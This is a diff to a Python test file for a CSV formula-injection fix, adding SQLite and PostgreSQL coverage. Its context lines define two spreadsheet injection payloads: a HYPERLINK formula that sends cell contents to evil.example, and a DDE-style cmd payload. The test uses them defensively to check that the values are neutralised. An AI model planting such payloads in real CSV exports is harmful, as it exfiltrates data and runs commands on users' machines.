@@ -1,7 +1,7 @@
 """Issue 18, finding 7: CSV formula injection. Every CSV the hub writes goes through one
 writer (server_hub/store/csvout.py) whose text cells cannot start a formula: a station named
 `=HYPERLINK(...)` and an activity administrator named `@SUM(...)` come out of the real API's
-`format=csv` and the CLI's `--csv` as text ('=..., '@...), numbers stay numbers."""
+`format=csv` (on SQLite and PostgreSQL) and the CLI's `--csv` as text ('=..., '@...), numbers stay numbers."""
 
 from __future__ import annotations
 
@@ -14,7 +14,8 @@ import pytest
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "test_creditbank"))
 
-from bankkit import SESSION_START, api_client, close_api, credited_district  # noqa: E402
+from bankkit import (SESSION_START, api_client, close_api, credited_district,  # noqa: E402
+                     db_url)  # noqa: F401 (db_url: a fixture)
 from server_hub.store import csvout  # noqa: E402
 
 EVIL_STATION = '=HYPERLINK("http://evil.example/?"&A1,"open")'
@@ -22,8 +23,8 @@ EVIL_ADMIN = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
 @pytest.fixture
-def api(tmp_path):
-    client = api_client(tmp_path)
+def api(db_url, tmp_path):     # SQLite and PostgreSQL (hubkit.db_url)
+    client = api_client(tmp_path, db_url)
     yield client
     close_api(client)
 
